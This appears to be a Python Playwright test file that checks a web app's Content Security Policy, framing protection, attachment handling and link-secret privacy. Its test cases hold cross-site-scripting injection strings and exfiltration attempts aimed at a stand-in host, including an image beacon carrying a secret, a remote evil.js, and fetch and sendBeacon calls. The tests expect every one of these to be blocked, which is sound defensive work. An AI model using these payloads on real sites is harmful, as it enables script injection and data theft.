"""What a real browser forbids our pages because the server says so: were something hostile to get into a page, it could not do much."""

import io

import httpx
import pytest
from PIL import Image
from playwright.async_api import Page, Route

from tests.e2e.marks import BROWSER
from tests.e2e.person import Meeting, Person
from tests.e2e.site import Site

pytestmark = BROWSER

REFUSED = r"Content Security Policy|Refused to|MIME type|violates"
"""What Chromium says when it obeys."""

ELSEWHERE = "http://elsewhere.example"

SECRET = "Zm9yZ2V0LW1lLW5vdA"

VIOLATED_BY = """(html) => new Promise((seen) => {
    document.addEventListener("securitypolicyviolation", (event) => seen(event.effectiveDirective), { once: true });
    const holder = document.createElement("div");
    document.body.append(holder);
    holder.append(document.createRange().createContextualFragment(html));
    for (const element of holder.querySelectorAll("button, a")) element.click();
})"""
"""Put HTML into the page so that its scripts would run, press what can be pressed, and name the rule that forbids it."""

LOADS = """([kind, address]) => new Promise((seen) => {
    const element = document.createElement(kind);
    element.onload = () => seen(true);
    element.onerror = () => seen(false);
    element.src = address;
    document.body.append(element);
})"""


NOBODY_ELSE = "Mallory"
"""Who sits in this module's browsers alone: what is smuggled into a page stays there for the next story."""


async def document_of(person: Person, site: Site) -> Page:
    person.expects(REFUSED)
    return (await person.opens(await site.new_document())).page


@pytest.mark.seated
@pytest.mark.parametrize(
    ("injected", "rule"),
    [
        ("<script>document.title = 'stolen'</script>", "script-src-elem"),
        (f"<script src='{ELSEWHERE}/evil.js'></script>", "script-src-elem"),
        ("<script src='data:text/javascript,document.title=1'></script>", "script-src-elem"),
        ("<button onclick=\"document.title = 'stolen'\">Press</button>", "script-src-attr"),
        ("<a href=\"javascript:document.title = 'stolen'\">Press</a>", "script-src-elem"),
        (f"<img src='{ELSEWHERE}/pixel.png?{SECRET}'>", "img-src"),
        (f"<iframe src='{ELSEWHERE}/'></iframe>", "frame-src"),
        ("<object data='data:text/html,hello'></object>", "object-src"),
        ("<base href='http://elsewhere.example/'>", "base-uri"),
        (f"<form action='{ELSEWHERE}/'><button>Press</button></form>", "form-action"),
        (f"<link rel='stylesheet' href='{ELSEWHERE}/spy.css'>", "style-src-elem"),
    ],
)
async def test_what_is_smuggled_into_a_page_does_nothing(
    meet: Meeting, shared_site: Site, injected: str, rule: str
) -> None:
    page = await document_of(await meet(NOBODY_ELSE), shared_site)
    asked: list[str] = []

    async def note(route: Route) -> None:
        asked.append(route.request.url)
        await route.fulfill(body="")

    await page.route(f"{ELSEWHERE}/**", note)
    title = await page.evaluate("document.title")
    assert await page.evaluate(VIOLATED_BY, injected) == rule
    assert await page.evaluate("document.title") == title
    assert asked == []


@pytest.mark.seated
async def test_a_page_talks_to_nobody_but_us(meet: Meeting, shared_site: Site) -> None:
    page = await document_of(await meet(NOBODY_ELSE), shared_site)
    for attempt in (
        f"fetch('{ELSEWHERE}/')",
        f"navigator.sendBeacon('{ELSEWHERE}/')",
        f"new WebSocket('{ELSEWHERE}/')",
    ):
        script = f"""() => new Promise((seen) => {{
            document.addEventListener("securitypolicyviolation", (event) => seen(event.effectiveDirective), {{ once: true }});
            try {{ Promise.resolve({attempt}).catch(() => {{}}); }} catch {{}}
        }})"""
        assert await page.evaluate(script) == "connect-src"
    # Playwright's own code is allowed what pages' code is not, so the page has to ask itself.
    assert await page.evaluate(VIOLATED_BY, "<button onclick='eval(1)'>Press</button>") == "script-src-attr"


async def test_nobody_puts_our_pages_into_a_frame(meet: Meeting, shared_site: Site) -> None:
    person = await meet(NOBODY_ELSE)
    person.expects(REFUSED)
    document_id = await shared_site.new_document()

    async def show_frames(route: Route) -> None:
        frames = "".join(f"<iframe src='{shared_site.url}{path}'></iframe>" for path in ("/", f"/d/{document_id}"))
        await route.fulfill(content_type="text/html", body=f"<title>Elsewhere</title>{frames}")

    await person.context.route(f"{ELSEWHERE}/", show_frames)
    page = await person.context.new_page()
    await page.goto(f"{ELSEWHERE}/")
    framed = [frame for frame in page.frames if frame != page.main_frame]
    assert len(framed) == 2
    for frame in framed:
        assert await frame.evaluate("() => document.getElementById('root')") is None
        assert not frame.url.startswith(shared_site.url)


def picture(comment: bytes) -> bytes:
    """A sound picture with something else behind it."""
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(out, "PNG")
    return out.getvalue() + comment


async def attach(site: Site, document_id: str, content: bytes) -> httpx.Response:
    async with httpx.AsyncClient(base_url=site.url) as http:
        return await http.post(f"/api/documents/{document_id}/attachments", content=content)


async def test_an_attachment_is_a_picture_and_nothing_else(meet: Meeting, shared_site: Site) -> None:
    person = await meet(NOBODY_ELSE)
    person.expects(REFUSED, "The document is sandboxed")  # says the picture that is looked at by itself
    document_id = await shared_site.new_document()
    for script in (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", b"<script>1</script>"):
        assert (await attach(shared_site, document_id, script)).status_code == 415
    kept = await attach(shared_site, document_id, picture(b"<script>document.title = 'stolen'</script>"))
    url = kept.json()["url"]
    page = (await person.opens(document_id)).page
    assert await page.evaluate(LOADS, ["img", url])
    assert not await page.evaluate(LOADS, ["script", url]), "not even where scripts of ours are allowed"
    shown = await page.goto(shared_site.url + url)
    assert shown is not None
    assert shown.headers["x-content-type-options"] == "nosniff"
    assert shown.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert shown.headers["content-disposition"] == "inline"
    assert shown.headers["content-type"] == "image/png"
    assert await page.title() != "stolen"


async def test_the_secret_of_a_link_is_sent_to_nobody(meet: Meeting, shared_site: Site) -> None:
    """It is in the address behind the `#`: no server sees that, and no Referer holds it."""
    person = await meet(NOBODY_ELSE)
    person.expects(REFUSED)
    sent: list[str] = []
    person.context.on("request", lambda request: sent.append(f"{request.url} {request.headers}"))

    async def greet(route: Route) -> None:
        sent.append(f"{route.request.url} {await route.request.all_headers()}")
        await route.fulfill(content_type="text/html", body="<title>Elsewhere</title>")

    await person.context.route(f"{ELSEWHERE}/", greet)
    document_id = await shared_site.new_document()
    page = await person.visits(f"/d/{document_id}#link={SECRET}")
    await page.evaluate(f"() => {{ location.href = '{ELSEWHERE}/'; }}")
    await page.wait_for_url(f"{ELSEWHERE}/")
    assert any(line.startswith(ELSEWHERE) for line in sent)
    assert [line for line in sent if SECRET in line] == []
    assert [line for line in sent if line.startswith(ELSEWHERE) and "referer" in line.lower()] == []
